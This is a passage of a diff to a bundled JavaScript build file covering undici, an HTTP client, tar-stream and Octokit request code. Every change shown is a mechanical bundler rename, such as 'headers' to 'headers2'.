+        const parsedHeaders = responseHeaders === "raw" ? util.parseHeaders(rawHeaders) : headers2;
         const contentType = parsedHeaders["content-type"];
         const contentLength = parsedHeaders["content-length"];
         const res = new Readable2({
@@ -9912,12 +9912,12 @@ var require_api_request = __commonJS({
             this.runInAsyncScope(
               getResolveErrorBodyCallback,
               null,
-              { callback, body: res, contentType, statusCode, statusMessage, headers }
+              { callback, body: res, contentType, statusCode, statusMessage, headers: headers2 }
             );
           } else {
             this.runInAsyncScope(callback, null, null, {
               statusCode,
-              headers,
+              headers: headers2,
               trailers: this.trailers,
               opaque,
               body: res,
@@ -10101,24 +10101,24 @@ var require_api_stream = __commonJS({
       }
       onHeaders(statusCode, rawHeaders, resume, statusMessage) {
         const { factory, opaque, context: context3, callback, responseHeaders } = this;
-        const headers = responseHeaders === "raw" ? util.parseRawHeaders(rawHeaders) : util.parseHeaders(rawHeaders);
+        const headers2 = responseHeaders === "raw" ? util.parseRawHeaders(rawHeaders) : util.parseHeaders(rawHeaders);
         if (statusCode < 200) {
           if (this.onInfo) {
-            this.onInfo({ statusCode, headers });
+            this.onInfo({ statusCode, headers: headers2 });
           }
           return;
         }
         this.factory = null;
         let res;
         if (this.throwOnError && statusCode >= 400) {
-          const parsedHeaders = responseHeaders === "raw" ? util.parseHeaders(rawHeaders) : headers;
+          const parsedHeaders = responseHeaders === "raw" ? util.parseHeaders(rawHeaders) : headers2;
           const contentType = parsedHeaders["content-type"];
           res = new PassThrough();
           this.callback = null;
           this.runInAsyncScope(
             getResolveErrorBodyCallback,
             null,
-            { callback, body: res, contentType, statusCode, statusMessage, headers }
+            { callback, body: res, contentType, statusCode, statusMessage, headers: headers2 }
           );
         } else {
           if (factory === null) {
@@ -10126,7 +10126,7 @@ var require_api_stream = __commonJS({
           }
           res = this.runInAsyncScope(factory, null, {
             statusCode,
-            headers,
+            headers: headers2,
             opaque,
             context: context3
           });
@@ -10335,8 +10335,8 @@ var require_api_pipeline = __commonJS({
         const { opaque, handler: handler2, context: context3 } = this;
         if (statusCode < 200) {
           if (this.onInfo) {
-            const headers = this.responseHeaders === "raw" ? util.parseRawHeaders(rawHeaders) : util.parseHeaders(rawHeaders);
-            this.onInfo({ statusCode, headers });
+            const headers2 = this.responseHeaders === "raw" ? util.parseRawHeaders(rawHeaders) : util.parseHeaders(rawHeaders);
+            this.onInfo({ statusCode, headers: headers2 });
           }
           return;
         }
@@ -10344,10 +10344,10 @@ var require_api_pipeline = __commonJS({
         let body;
         try {
           this.handler = null;
-          const headers = this.responseHeaders === "raw" ? util.parseRawHeaders(rawHeaders) : util.parseHeaders(rawHeaders);
+          const headers2 = this.responseHeaders === "raw" ? util.parseRawHeaders(rawHeaders) : util.parseHeaders(rawHeaders);
           body = this.runInAsyncScope(handler2, null, {
             statusCode,
-            headers,
+            headers: headers2,
             opaque,
             body: this.res,
             context: context3
@@ -10451,9 +10451,9 @@ var require_api_upgrade = __commonJS({
         const { callback, opaque, context: context3 } = this;
         removeSignal(this);
         this.callback = null;
-        const headers = this.responseHeaders === "raw" ? util.parseRawHeaders(rawHeaders) : util.parseHeaders(rawHeaders);
+        const headers2 = this.responseHeaders === "raw" ? util.parseRawHeaders(rawHeaders) : util.parseHeaders(rawHeaders);
         this.runInAsyncScope(callback, null, null, {
-          headers,
+          headers: headers2,
           socket,
           opaque,
           context: context3
@@ -10541,13 +10541,13 @@ var require_api_connect = __commonJS({
         const { callback, opaque, context: context3 } = this;
         removeSignal(this);
         this.callback = null;
-        let headers = rawHeaders;
-        if (headers != null) {
-          headers = this.responseHeaders === "raw" ? util.parseRawHeaders(rawHeaders) : util.parseHeaders(rawHeaders);
+        let headers2 = rawHeaders;
+        if (headers2 != null) {
+          headers2 = this.responseHeaders === "raw" ? util.parseRawHeaders(rawHeaders) : util.parseHeaders(rawHeaders);
         }
         this.runInAsyncScope(callback, null, null, {
           statusCode,
-          headers,
+          headers: headers2,
           socket,
           opaque,
           context: context3
@@ -10683,50 +10683,50 @@ var require_mock_utils = __commonJS({
       }
       return false;
     }
-    function lowerCaseEntries(headers) {
+    function lowerCaseEntries(headers2) {
       return Object.fromEntries(
-        Object.entries(headers).map(([headerName, headerValue]) => {
+        Object.entries(headers2).map(([headerName, headerValue]) => {
           return [headerName.toLocaleLowerCase(), headerValue];
         })
       );
     }
-    function getHeaderByName(headers, key) {
-      if (Array.isArray(headers)) {
-        for (let i = 0; i < headers.length; i += 2) {
-          if (headers[i].toLocaleLowerCase() === key.toLocaleLowerCase()) {
-            return headers[i + 1];
+    function getHeaderByName(headers2, key) {
+      if (Array.isArray(headers2)) {
+        for (let i = 0; i < headers2.length; i += 2) {
+          if (headers2[i].toLocaleLowerCase() === key.toLocaleLowerCase()) {
+            return headers2[i + 1];
           }
         }
         return void 0;
-      } else if (typeof headers.get === "function") {
-        return headers.get(key);
+      } else if (typeof headers2.get === "function") {
+        return headers2.get(key);
       } else {
-        return lowerCaseEntries(headers)[key.toLocaleLowerCase()];
+        return lowerCaseEntries(headers2)[key.toLocaleLowerCase()];
       }
     }
-    function buildHeadersFromArray(headers) {
-      const clone = headers.slice();
+    function buildHeadersFromArray(headers2) {
+      const clone = headers2.slice();
       const entries = [];
       for (let index = 0; index < clone.length; index += 2) {
         entries.push([clone[index], clone[index + 1]]);
       }
       return Object.fromEntries(entries);
     }
-    function matchHeaders(mockDispatch2, headers) {
+    function matchHeaders(mockDispatch2, headers2) {
       if (typeof mockDispatch2.headers === "function") {
-        if (Array.isArray(headers)) {
-          headers = buildHeadersFromArray(headers);
+        if (Array.isArray(headers2)) {
+          headers2 = buildHeadersFromArray(headers2);
         }
-        return mockDispatch2.headers(headers ? lowerCaseEntries(headers) : {});
+        return mockDispatch2.headers(headers2 ? lowerCaseEntries(headers2) : {});
       }
       if (typeof mockDispatch2.headers === "undefined") {
         return true;
       }
-      if (typeof headers !== "object" || typeof mockDispatch2.headers !== "object") {
+      if (typeof headers2 !== "object" || typeof mockDispatch2.headers !== "object") {
         return false;
       }
       for (const [matchHeaderName, matchHeaderValue] of Object.entries(mockDispatch2.headers)) {
-        const headerValue = getHeaderByName(headers, matchHeaderName);
+        const headerValue = getHeaderByName(headers2, matchHeaderName);
         if (!matchValue(matchHeaderValue, headerValue)) {
           return false;
         }
@@ -10745,11 +10745,11 @@ var require_mock_utils = __commonJS({
       qp.sort();
       return [...pathSegments, qp.toString()].join("?");
     }
-    function matchKey(mockDispatch2, { path, method, body, headers }) {
+    function matchKey(mockDispatch2, { path, method, body, headers: headers2 }) {
       const pathMatch = matchValue(mockDispatch2.path, path);
       const methodMatch = matchValue(mockDispatch2.method, method);
       const bodyMatch = typeof mockDispatch2.body !== "undefined" ? matchValue(mockDispatch2.body, body) : true;
-      const headersMatch = matchHeaders(mockDispatch2, headers);
+      const headersMatch = matchHeaders(mockDispatch2, headers2);
       return pathMatch && methodMatch && bodyMatch && headersMatch;
     }
     function getResponseData2(data2) {
@@ -10782,8 +10782,8 @@ var require_mock_utils = __commonJS({
       }
       matchedMockDispatches = matchedMockDispatches.filter((mockDispatch2) => matchHeaders(mockDispatch2, key.headers));
       if (matchedMockDispatches.length === 0) {
-        const headers = typeof key.headers === "object" ? JSON.stringify(key.headers) : key.headers;
-        throw new MockNotMatchedError(`Mock dispatch not matched for headers '${headers}' on path '${resolvedPath}'`);
+        const headers2 = typeof key.headers === "object" ? JSON.stringify(key.headers) : key.headers;
+        throw new MockNotMatchedError(`Mock dispatch not matched for headers '${headers2}' on path '${resolvedPath}'`);
       }
       return matchedMockDispatches[0];
     }
@@ -10806,12 +10806,12 @@ var require_mock_utils = __commonJS({
       }
     }
     function buildKey(opts) {
-      const { path, method, body, headers, query } = opts;
+      const { path, method, body, headers: headers2, query } = opts;
       return {
         path,
         method,
         body,
-        headers,
+        headers: headers2,
         query
       };
     }
@@ -10849,7 +10849,7 @@ var require_mock_utils = __commonJS({
       if (mockDispatch2.data.callback) {
         mockDispatch2.data = { ...mockDispatch2.data, ...mockDispatch2.data.callback(opts) };
       }
-      const { data: { statusCode, data: data2, headers, trailers, error: error2 }, delay, persist } = mockDispatch2;
+      const { data: { statusCode, data: data2, headers: headers2, trailers, error: error2 }, delay, persist } = mockDispatch2;
       const { timesInvoked, times } = mockDispatch2;
       mockDispatch2.consumed = !persist && timesInvoked >= times;
       mockDispatch2.pending = timesInvoked < times;
@@ -10873,7 +10873,7 @@ var require_mock_utils = __commonJS({
           return;
         }
         const responseData = getResponseData2(body);
-        const responseHeaders = generateKeyValues(headers);
+        const responseHeaders = generateKeyValues(headers2);
         const responseTrailers = generateKeyValues(trailers);
         handler2.onConnect?.((err) => handler2.onError(err), null);
         handler2.onHeaders?.(statusCode, responseHeaders, resume, getStatusText(statusCode));
@@ -11026,9 +11026,9 @@ var require_mock_interceptor = __commonJS({
       createMockScopeDispatchData({ statusCode, data: data2, responseOptions }) {
         const responseData = getResponseData2(data2);
         const contentLength = this[kContentLength] ? { "content-length": responseData.length } : {};
-        const headers = { ...this[kDefaultHeaders], ...contentLength, ...responseOptions.headers };
+        const headers2 = { ...this[kDefaultHeaders], ...contentLength, ...responseOptions.headers };
         const trailers = { ...this[kDefaultTrailers], ...responseOptions.trailers };
-        return { statusCode, data: data2, headers, trailers };
+        return { statusCode, data: data2, headers: headers2, trailers };
       }
       validateReplyParameters(replyParameters) {
         if (typeof replyParameters.statusCode === "undefined") {
@@ -11080,11 +11080,11 @@ var require_mock_interceptor = __commonJS({
       /**
        * Set default reply headers on the interceptor for subsequent replies
        */
-      defaultReplyHeaders(headers) {
-        if (typeof headers === "undefined") {
+      defaultReplyHeaders(headers2) {
+        if (typeof headers2 === "undefined") {
           throw new InvalidArgumentError("headers must be defined");
         }
-        this[kDefaultHeaders] = headers;
+        this[kDefaultHeaders] = headers2;
         return this;
       }
       /**
@@ -11572,8 +11572,8 @@ var require_dump = __commonJS({
       }
       // TODO: will require adjustment after new hooks are out
       onHeaders(statusCode, rawHeaders, resume, statusMessage) {
-        const headers = util.parseHeaders(rawHeaders);
-        const contentLength = headers["content-length"];
+        const headers2 = util.parseHeaders(rawHeaders);
+        const contentLength = headers2["content-length"];
         if (contentLength != null && contentLength > this.#maxSize) {
           throw new RequestAbortedError(
             `Response size (${contentLength}) larger than maxSize (${this.#maxSize})`
@@ -11952,7 +11952,7 @@ var require_headers = __commonJS({
       while (j > i && isHTTPWhiteSpaceCharCode(potentialValue.charCodeAt(i))) ++i;
       return i === 0 && j === potentialValue.length ? potentialValue : potentialValue.substring(i, j);
     }
-    function fill(headers, object) {
+    function fill(headers2, object) {
       if (Array.isArray(object)) {
         for (let i = 0; i < object.length; ++i) {
           const header = object[i];
@@ -11962,12 +11962,12 @@ var require_headers = __commonJS({
               message: `expected name/value pair to be length 2, found ${header.length}.`
             });
           }
-          appendHeader(headers, header[0], header[1]);
+          appendHeader(headers2, header[0], header[1]);
         }
       } else if (typeof object === "object" && object !== null) {
         const keys = Object.keys(object);
         for (let i = 0; i < keys.length; ++i) {
-          appendHeader(headers, keys[i], object[keys[i]]);
+          appendHeader(headers2, keys[i], object[keys[i]]);
         }
       } else {
         throw webidl.errors.conversionFailed({
@@ -11977,7 +11977,7 @@ var require_headers = __commonJS({
         });
       }
     }
-    function appendHeader(headers, name, value) {
+    function appendHeader(headers2, name, value) {
       value = headerValueNormalize(value);
       if (!isValidHeaderName(name)) {
         throw webidl.errors.invalidArgument({
@@ -11992,10 +11992,10 @@ var require_headers = __commonJS({
           type: "header value"
         });
       }
-      if (getHeadersGuard(headers) === "immutable") {
+      if (getHeadersGuard(headers2) === "immutable") {
         throw new TypeError("immutable");
       }
-      return getHeadersList(headers).append(name, value, false);
+      return getHeadersList(headers2).append(name, value, false);
     }
     function compareHeaderName(a, b) {
       return a[0] < b[0] ? -1 : 1;
@@ -12091,31 +12091,31 @@ var require_headers = __commonJS({
         }
       }
       get entries() {
-        const headers = {};
+        const headers2 = {};
         if (this[kHeadersMap].size !== 0) {
           for (const { name, value } of this[kHeadersMap].values()) {
-            headers[name] = value;
+            headers2[name] = value;
           }
         }
-        return headers;
+        return headers2;
       }
       rawValues() {
         return this[kHeadersMap].values();
       }
       get entriesList() {
-        const headers = [];
+        const headers2 = [];
         if (this[kHeadersMap].size !== 0) {
           for (const { 0: lowerName, 1: { name, value } } of this[kHeadersMap]) {
             if (lowerName === "set-cookie") {
               for (const cookie of this.cookies) {
-                headers.push([name, cookie]);
+                headers2.push([name, cookie]);
               }
             } else {
-              headers.push([name, value]);
+              headers2.push([name, value]);
             }
           }
         }
-        return headers;
+        return headers2;
       }
       // https://fetch.spec.whatwg.org/#convert-header-names-to-a-sorted-lowercase-set
       toSortedArray() {
@@ -12280,7 +12280,7 @@ var require_headers = __commonJS({
         if (this.#headersList[kHeadersSortedMap]) {
           return this.#headersList[kHeadersSortedMap];
         }
-        const headers = [];
+        const headers2 = [];
         const names2 = this.#headersList.toSortedArray();
         const cookies = this.#headersList.cookies;
         if (cookies === null || cookies.length === 1) {
@@ -12290,13 +12290,13 @@ var require_headers = __commonJS({
           const { 0: name, 1: value } = names2[i];
           if (name === "set-cookie") {
             for (let j = 0; j < cookies.length; ++j) {
-              headers.push([name, cookies[j]]);
+              headers2.push([name, cookies[j]]);
             }
           } else {
-            headers.push([name, value]);
+            headers2.push([name, value]);
           }
         }
-        return this.#headersList[kHeadersSortedMap] = headers;
+        return this.#headersList[kHeadersSortedMap] = headers2;
       }
       [util.inspect.custom](depth, options) {
         options.depth ??= depth;
@@ -13097,15 +13097,15 @@ var require_request2 = __commonJS({
         }
         if (initHasKey) {
           const headersList = getHeadersList(this[kHeaders]);
-          const headers = init.headers !== void 0 ? init.headers : new HeadersList(headersList);
+          const headers2 = init.headers !== void 0 ? init.headers : new HeadersList(headersList);
           headersList.clear();
-          if (headers instanceof HeadersList) {
-            for (const { name, value } of headers.rawValues()) {
+          if (headers2 instanceof HeadersList) {
+            for (const { name, value } of headers2.rawValues()) {
               headersList.append(name, value, false);
             }
-            headersList.cookies = headers.cookies;
+            headersList.cookies = headers2.cookies;
           } else {
-            fillHeaders(this[kHeaders], headers);
+            fillHeaders(this[kHeaders], headers2);
           }
         }
         const inputBody = input instanceof _Request ? input[kState].body : null;
@@ -16444,10 +16444,10 @@ var require_cookies = __commonJS({
     var { stringify } = require_util6();
     var { webidl } = require_webidl();
     var { Headers: Headers2 } = require_headers();
-    function getCookies(headers) {
+    function getCookies(headers2) {
       webidl.argumentLengthCheck(arguments, 1, "getCookies");
-      webidl.brandCheck(headers, Headers2, { strict: false });
-      const cookie = headers.get("cookie");
+      webidl.brandCheck(headers2, Headers2, { strict: false });
+      const cookie = headers2.get("cookie");
       const out = {};
       if (!cookie) {
         return out;
@@ -16458,35 +16458,35 @@ var require_cookies = __commonJS({
       }
       return out;
     }
-    function deleteCookie(headers, name, attributes) {
-      webidl.brandCheck(headers, Headers2, { strict: false });
+    function deleteCookie(headers2, name, attributes) {
+      webidl.brandCheck(headers2, Headers2, { strict: false });
       const prefix = "deleteCookie";
       webidl.argumentLengthCheck(arguments, 2, prefix);
       name = webidl.converters.DOMString(name, prefix, "name");
       attributes = webidl.converters.DeleteCookieAttributes(attributes);
-      setCookie(headers, {
+      setCookie(headers2, {
         name,
         value: "",
         expires: /* @__PURE__ */ new Date(0),
         ...attributes
       });
     }
-    function getSetCookies(headers) {
+    function getSetCookies(headers2) {
       webidl.argumentLengthCheck(arguments, 1, "getSetCookies");
-      webidl.brandCheck(headers, Headers2, { strict: false });
-      const cookies = headers.getSetCookie();
+      webidl.brandCheck(headers2, Headers2, { strict: false });
+      const cookies = headers2.getSetCookie();
       if (!cookies) {
         return [];
       }
       return cookies.map((pair) => parseSetCookie(pair));
     }
-    function setCookie(headers, cookie) {
+    function setCookie(headers2, cookie) {
       webidl.argumentLengthCheck(arguments, 2, "setCookie");
-      webidl.brandCheck(headers, Headers2, { strict: false });
+      webidl.brandCheck(headers2, Headers2, { strict: false });
       cookie = webidl.converters.Cookie(cookie);
       const str = stringify(cookie);
       if (str) {
-        headers.append("Set-Cookie", str);
+        headers2.append("Set-Cookie", str);
       }
     }
     webidl.converters.DeleteCookieAttributes = webidl.dictionaryConverter([
@@ -17022,11 +17022,11 @@ var require_util7 = __commonJS({
     function isValidOpcode(opcode) {
       return isTextBinaryFrame(opcode) || isContinuationFrame(opcode) || isControlFrame(opcode);
     }
-    function parseExtensions(extensions) {
+    function parseExtensions(extensions2) {
       const position = { position: 0 };
       const extensionList = /* @__PURE__ */ new Map();
-      while (position.position < extensions.length) {
-        const pair = collectASequenceOfCodePointsFast(";", extensions, position);
+      while (position.position < extensions2.length) {
+        const pair = collectASequenceOfCodePointsFast(";", extensions2, position);
         const [name, value = ""] = pair.split("=");
         extensionList.set(
           removeHTTPWhitespace(name, true, false),
@@ -17233,10 +17233,10 @@ var require_connection = __commonJS({
             return;
           }
           const secExtension = response.headersList.get("Sec-WebSocket-Extensions");
-          let extensions;
+          let extensions2;
           if (secExtension !== null) {
-            extensions = parseExtensions(secExtension);
-            if (!extensions.has("permessage-deflate")) {
+            extensions2 = parseExtensions(secExtension);
+            if (!extensions2.has("permessage-deflate")) {
               failWebsocketConnection(ws, "Sec-WebSocket-Extensions header does not match.");
               return;
             }
@@ -17259,7 +17259,7 @@ var require_connection = __commonJS({
               extensions: secExtension
             });
           }
-          onEstablish(response, extensions);
+          onEstablish(response, extensions2);
         }
       });
       return controller;
@@ -17358,9 +17358,9 @@ var require_permessage_deflate = __commonJS({
       /**
        * @param {Map<string, string>} extensions
        */
-      constructor(extensions, options) {
-        this.#options.serverNoContextTakeover = extensions.has("server_no_context_takeover");
-        this.#options.serverMaxWindowBits = extensions.get("server_max_window_bits");
+      constructor(extensions2, options) {
+        this.#options.serverNoContextTakeover = extensions2.has("server_no_context_takeover");
+        this.#options.serverMaxWindowBits = extensions2.get("server_max_window_bits");
         this.#maxPayloadSize = options.maxPayloadSize;
       }
       /**
@@ -17468,14 +17468,14 @@ var require_receiver = __commonJS({
        * @param {Map<string, string>|null} extensions
        * @param {{ maxFragments?: number, maxPayloadSize?: number }} [options]
        */
-      constructor(ws, extensions, options = {}) {
+      constructor(ws, extensions2, options = {}) {
         super();
         this.ws = ws;
-        this.#extensions = extensions == null ? /* @__PURE__ */ new Map() : extensions;
+        this.#extensions = extensions2 == null ? /* @__PURE__ */ new Map() : extensions2;
         this.#maxFragments = options.maxFragments ?? 0;
         this.#maxPayloadSize = options.maxPayloadSize ?? 0;
         if (this.#extensions.has("permessage-deflate")) {
-          this.#extensions.set("permessage-deflate", new PerMessageDeflate(extensions, options));
+          this.#extensions.set("permessage-deflate", new PerMessageDeflate(extensions2, options));
         }
       }
       /**
@@ -17978,7 +17978,7 @@ var require_websocket = __commonJS({
           protocols,
           client2,
           this,
-          (response, extensions) => this.#onConnectionEstablished(response, extensions),
+          (response, extensions2) => this.#onConnectionEstablished(response, extensions2),
           options
         );
         this[kReadyState] = _WebSocket.CONNECTING;
@@ -18168,9 +18168,9 @@ var require_websocket = __commonJS({
         this[kByteParser] = parser;
         this.#sendQueue = new SendQueue(response.socket);
         this[kReadyState] = states.OPEN;
-        const extensions = response.headersList.get("sec-websocket-extensions");
-        if (extensions !== null) {
-          this.#extensions = extensions;
+        const extensions2 = response.headersList.get("sec-websocket-extensions");
+        if (extensions2 !== null) {
+          this.#extensions = extensions2;
         }
         const protocol = response.headersList.get("sec-websocket-protocol");
         if (protocol !== null) {
@@ -19532,13 +19532,13 @@ var require_lib = __commonJS({
        * All other methods such as get, post, patch, and request ultimately call this.
        * Prefer get, del, post and patch
        */
-      request(verb, requestUrl, data2, headers) {
+      request(verb, requestUrl, data2, headers2) {
         return __awaiter3(this, void 0, void 0, function* () {
           if (this._disposed) {
             throw new Error("Client has already been disposed.");
           }
           const parsedUrl = new URL(requestUrl);
-          let info2 = this._prepareRequest(verb, parsedUrl, headers);
+          let info2 = this._prepareRequest(verb, parsedUrl, headers2);
           const maxTries = this._allowRetries && RetryableHttpVerbs.includes(verb) ? this._maxRetries + 1 : 1;
           let numTries = 0;
           let response;
@@ -19570,13 +19570,13 @@ var require_lib = __commonJS({
               }
               yield response.readBody();
               if (parsedRedirectUrl.hostname !== parsedUrl.hostname) {
-                for (const header in headers) {
+                for (const header in headers2) {
                   if (header.toLowerCase() === "authorization") {
-                    delete headers[header];
+                    delete headers2[header];
                   }
                 }
               }
-              info2 = this._prepareRequest(verb, parsedRedirectUrl, headers);
+              info2 = this._prepareRequest(verb, parsedRedirectUrl, headers2);
               response = yield this.requestRaw(info2, data2);
               redirectsRemaining--;
             }
@@ -19689,7 +19689,7 @@ var require_lib = __commonJS({
         }
         return this._getProxyAgentDispatcher(parsedUrl, proxyUrl);
       }
-      _prepareRequest(method, requestUrl, headers) {
+      _prepareRequest(method, requestUrl, headers2) {
         const info2 = {};
         info2.parsedUrl = requestUrl;
         const usingSsl = info2.parsedUrl.protocol === "https:";
@@ -19700,7 +19700,7 @@ var require_lib = __commonJS({
         info2.options.port = info2.parsedUrl.port ? parseInt(info2.parsedUrl.port) : defaultPort;
         info2.options.path = (info2.parsedUrl.pathname || "") + (info2.parsedUrl.search || "");
         info2.options.method = method;
-        info2.options.headers = this._mergeHeaders(headers);
+        info2.options.headers = this._mergeHeaders(headers2);
         if (this.userAgent != null) {
           info2.options.headers["user-agent"] = this.userAgent;
         }
@@ -19712,11 +19712,11 @@ var require_lib = __commonJS({
         }
         return info2;
       }
-      _mergeHeaders(headers) {
+      _mergeHeaders(headers2) {
         if (this.requestOptions && this.requestOptions.headers) {
-          return Object.assign({}, lowercaseKeys2(this.requestOptions.headers), lowercaseKeys2(headers || {}));
+          return Object.assign({}, lowercaseKeys2(this.requestOptions.headers), lowercaseKeys2(headers2 || {}));
         }
-        return lowercaseKeys2(headers || {});
+        return lowercaseKeys2(headers2 || {});
       }
       /**
        * Gets an existing header value or returns a default.
@@ -21377,7 +21377,7 @@ var require_b4a = __commonJS({
     function includes(buffer, value, byteOffset, encoding) {
       return toBuffer(buffer).includes(value, byteOffset, encoding);
     }
-    function indexOf2(buffer, value, byfeOffset, encoding) {
+    function indexOf3(buffer, value, byfeOffset, encoding) {
       return toBuffer(buffer).indexOf(value, byfeOffset, encoding);
     }
     function lastIndexOf(buffer, value, byteOffset, encoding) {
@@ -21467,7 +21467,7 @@ var require_b4a = __commonJS({
       fill,
       from,
       includes,
-      indexOf: indexOf2,
+      indexOf: indexOf3,
       lastIndexOf,
       swap16,
       swap32,
@@ -22986,7 +22986,7 @@ var require_headers2 = __commonJS({
       }
       return 0;
     }
-    function indexOf2(block, num, offset, end) {
+    function indexOf3(block, num, offset, end) {
       for (; offset < end; offset++) {
         if (block[offset] === num) return offset;
       }
@@ -23043,14 +23043,14 @@ var require_headers2 = __commonJS({
         return parse256(val);
       } else {
         while (offset < val.length && val[offset] === 32) offset++;
-        const end = clamp(indexOf2(val, 32, offset, val.length), val.length, val.length);
+        const end = clamp(indexOf3(val, 32, offset, val.length), val.length, val.length);
         while (offset < end && val[offset] === 0) offset++;
         if (end === offset) return 0;
         return parseInt(b4a.toString(val.subarray(offset, end)), 8);
       }
     }
     function decodeStr(val, offset, length, encoding) {
-      return b4a.toString(val.subarray(offset, indexOf2(val, 0, offset, offset + length)), encoding);
+      return b4a.toString(val.subarray(offset, indexOf3(val, 0, offset, offset + length)), encoding);
     }
     function addLength(str) {
       const len = b4a.byteLength(str);
@@ -23067,7 +23067,7 @@ var require_extract = __commonJS({
     var { Writable, Readable: Readable2, getStreamError } = require_streamx();
     var FIFO = require_fast_fifo();
     var b4a = require_b4a();
-    var headers = require_headers2();
+    var headers2 = require_headers2();
     var EMPTY2 = b4a.alloc(0);
     var MAX_HEADER_SIZE = 4 * 1024 * 1024;
     var BufferList = class {
@@ -23177,7 +23177,7 @@ var require_extract = __commonJS({
         if (this._locked) return false;
         this._offset = this._buffer.shifted;
         try {
-          this._header = headers.decode(this._buffer.shift(512), this._filenameEncoding, this._allowUnknownFormat);
+          this._header = headers2.decode(this._buffer.shift(512), this._filenameEncoding, this._allowUnknownFormat);
         } catch (err) {
           this._continueWrite(err);
           return false;
@@ -23232,16 +23232,16 @@ var require_extract = __commonJS({
       _decodeLongHeader(buf) {
         switch (this._header.type) {
           case "gnu-long-path":
-            this._gnuLongPath = headers.decodeLongPath(buf, this._filenameEncoding);
+            this._gnuLongPath = headers2.decodeLongPath(buf, this._filenameEncoding);
             break;
           case "gnu-long-link-path":
-            this._gnuLongLinkPath = headers.decodeLongPath(buf, this._filenameEncoding);
+            this._gnuLongLinkPath = headers2.decodeLongPath(buf, this._filenameEncoding);
             break;
           case "pax-global-header":
-            this._paxGlobal = headers.decodePax(buf);
+            this._paxGlobal = headers2.decodePax(buf);
             break;
           case "pax-header":
-            this._pax = this._paxGlobal === null ? headers.decodePax(buf) : Object.assign({}, this._paxGlobal, headers.decodePax(buf));
+            this._pax = this._paxGlobal === null ? headers2.decodePax(buf) : Object.assign({}, this._paxGlobal, headers2.decodePax(buf));
             break;
         }
       }
@@ -23431,7 +23431,7 @@ var require_pack = __commonJS({
     var { Readable: Readable2, Writable, getStreamError } = require_streamx();
     var b4a = require_b4a();
     var constants3 = require_constants6();
-    var headers = require_headers2();
+    var headers2 = require_headers2();
     var DMODE = 493;
     var FMODE = 420;
     var END_OF_TAR = b4a.alloc(1024);
@@ -23574,7 +23574,7 @@ var require_pack = __commonJS({
       }
       _encode(header) {
         if (!header.pax) {
-          const buf = headers.encode(header);
+          const buf = headers2.encode(header);
           if (buf) {
             this.push(buf);
             return;
@@ -23583,7 +23583,7 @@ var require_pack = __commonJS({
         this._encodePax(header);
       }
       _encodePax(header) {
-        const paxHeader = headers.encodePax({
+        const paxHeader = headers2.encodePax({
           name: header.name,
           linkname: header.linkname,
           pax: header.pax
@@ -23602,12 +23602,12 @@ var require_pack = __commonJS({
           devmajor: header.devmajor,
           devminor: header.devminor
         };
-        this.push(headers.encode(newHeader));
+        this.push(headers2.encode(newHeader));
         this.push(paxHeader);
         overflow(this, paxHeader.byteLength);
         newHeader.size = header.size;
         newHeader.type = header.type;
-        this.push(headers.encode(newHeader));
+        this.push(headers2.encode(newHeader));
       }
       _doDrain() {
         const drain = this._drain;
@@ -34504,7 +34504,7 @@ function expand(template, context3) {
 function parse(options) {
   let method = options.method.toUpperCase();
   let url = (options.url || "/").replace(/:([a-z]\w+)/g, "{$1}");
-  let headers = Object.assign({}, options.headers);
+  let headers2 = Object.assign({}, options.headers);
   let body;
   let parameters = omit(options, [
     "method",
@@ -34521,10 +34521,10 @@ function parse(options) {
   }
   const omittedParameters = Object.keys(options).filter((option2) => urlVariableNames.includes(option2)).concat("baseUrl");
   const remainingParameters = omit(parameters, omittedParameters);
-  const isBinaryRequest = /application\/octet-stream/i.test(headers.accept);
+  const isBinaryRequest = /application\/octet-stream/i.test(headers2.accept);
   if (!isBinaryRequest) {
     if (options.mediaType.format) {
-      headers.accept = headers.accept.split(/,/).map(
+      headers2.accept = headers2.accept.split(/,/).map(
         (format) => format.replace(
           /application\/vnd(\.\w+)(\.v3)?(\.\w+)?(\+json)?$/,
           `application/vnd$1$2.${options.mediaType.format}`
@@ -34533,8 +34533,8 @@ function parse(options) {
     }
     if (url.endsWith("/graphql")) {
       if (options.mediaType.previews?.length) {
-        const previewsFromAcceptHeader = headers.accept.match(/(?<![\w-])[\w-]+(?=-preview)/g) || [];
-        headers.accept = previewsFromAcceptHeader.concat(options.mediaType.previews).map((preview) => {
+        const previewsFromAcceptHeader = headers2.accept.match(/(?<![\w-])[\w-]+(?=-preview)/g) || [];
+        headers2.accept = previewsFromAcceptHeader.concat(options.mediaType.previews).map((preview) => {
           const format = options.mediaType.format ? `.${options.mediaType.format}` : "+json";
           return `application/vnd.github.${preview}-preview${format}`;
         }).join(",");
@@ -34552,14 +34552,14 @@ function parse(options) {
       }
     }
   }
-  if (!headers["content-type"] && typeof body !== "undefined") {
-    headers["content-type"] = "application/json; charset=utf-8";
+  if (!headers2["content-type"] && typeof body !== "undefined") {
+    headers2["content-type"] = "application/json; charset=utf-8";
   }
   if (["PATCH", "PUT"].includes(method) && typeof body === "undefined") {
     body = "";
   }
   return Object.assign(
-    { method, url, headers },
+    { method, url, headers: headers2 },
     typeof body !== "undefined" ? { body } : null,
     options.request ? { request: options.request } : null
   );
@@ -34568,12 +34568,12 @@ function endpointWithDefaults(defaults2, route, options) {
   return parse(merge(defaults2, route, options));
 }
 function withDefaults(oldDefaults, newDefaults) {
-  const DEFAULTS2 = merge(oldDefaults, newDefaults);
-  const endpoint2 = endpointWithDefaults.bind(null, DEFAULTS2);
+  const DEFAULTS22 = merge(oldDefaults, newDefaults);
+  const endpoint2 = endpointWithDefaults.bind(null, DEFAULTS22);
   return Object.assign(endpoint2, {
-    DEFAULTS: DEFAULTS2,
-    defaults: withDefaults.bind(null, DEFAULTS2),
-    merge: merge.bind(null, DEFAULTS2),
+    DEFAULTS: DEFAULTS22,
+    defaults: withDefaults.bind(null, DEFAULTS22),
+    merge: merge.bind(null, DEFAULTS22),
     parse
   });
 }
@@ -35326,10 +35326,10 @@ function _buildMessageForResponseErrors(data2) {
 ` + data2.errors.map((e) => ` - ${e.message}`).join("\n");
 }
 var GraphqlResponseError = class extends Error {
-  constructor(request2, headers, response) {
+  constructor(request2, headers2, response) {
     super(_buildMessageForResponseErrors(response));
     this.request = request2;
-    this.headers = headers;
+    this.headers = headers2;
     this.response = response;
     this.errors = response.errors;
     this.data = response.data;
@@ -35392,13 +35392,13 @@ function graphql(request2, query, options) {
   }
   return request2(requestOptions).then((response) => {
     if (response.data.errors) {
-      const headers = {};
+      const headers2 = {};
       for (const key of Object.keys(response.headers)) {
